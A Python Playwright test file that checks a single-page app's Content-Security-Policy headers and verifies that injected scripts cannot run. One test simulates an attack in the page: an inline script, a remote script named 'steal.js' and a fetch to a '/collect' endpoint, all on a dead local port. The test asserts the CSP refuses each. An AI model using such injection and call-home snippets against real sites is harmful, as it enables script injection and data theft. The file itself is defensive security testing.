"""The SPA under the stack's security headers: served with them (tests/browser/hosting.py reads them from the
template), a script the page did not ship never runs, and the app itself needs nothing the CSP refuses (every
browser test fails on a Content-Security-Policy message in the console: tests/browser/conftest.py)."""

from __future__ import annotations

import requests
from playwright.sync_api import Browser, expect

from tests.browser.conftest import VIEWPORT
from tests.browser.hosting import spa_headers
from tests.browser.stack import Stack

# What the page records of each refusal (the `securitypolicyviolation` event), installed before the app loads.
RECORD_REFUSALS = """
window.__refused = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__refused.push({directive: event.effectiveDirective, blocked: event.blockedURI});
});
"""


def test_the_spa_is_served_with_the_stacks_security_headers(stack: Stack) -> None:
    answer = requests.get(stack.spa_url, timeout=10)

    lessons = stack.content.endpoint_url
    expected = spa_headers(tenant=stack.sandbox.base_url, api=stack.service.base_url, content=lessons)
    assert {name: answer.headers.get(name) for name in expected} == expected
    assert "script-src 'self';" in expected["Content-Security-Policy"]
    policy = expected["Content-Security-Policy"]
    assert f"connect-src {stack.sandbox.base_url} {stack.service.base_url} {lessons};" in policy
    assert f"media-src {lessons};" in policy


def test_a_script_the_page_did_not_ship_never_runs(stack: Stack, browser: Browser) -> None:
    context = browser.new_context(viewport=VIEWPORT)
    page = context.new_page()
    page.add_init_script(RECORD_REFUSALS)
    page.goto(stack.spa_url)
    expect(page.get_by_role("button", name="Sign in")).to_be_visible()

    # What an injection would try: an inline script, a script from elsewhere, a call home. (Not eval: DevTools, which
    # runs this, may always eval; the CSP's script-src without 'unsafe-eval' is held by the template's test.)
    outcome = page.evaluate(
        """async () => {
          const inline = document.createElement("script");
          inline.textContent = "window.__injected = 'inline'";
          document.body.append(inline);
          const remote = document.createElement("script");
          remote.src = "http://127.0.0.1:9/steal.js";
          document.body.append(remote);
          let called = "answered";
          try { await fetch("http://127.0.0.1:9/collect"); } catch (error) { called = error.name; }
          await new Promise((done) => setTimeout(done, 200));
          return {injected: window.__injected ?? null, called, refused: window.__refused};
        }"""
    )
    context.close()

    assert outcome["injected"] is None
    assert outcome["called"] == "TypeError"
    assert {refusal["directive"] for refusal in outcome["refused"]} == {"script-src-elem", "connect-src"}
    assert "http://127.0.0.1:9/steal.js" in {refusal["blocked"] for refusal in outcome["refused"]}
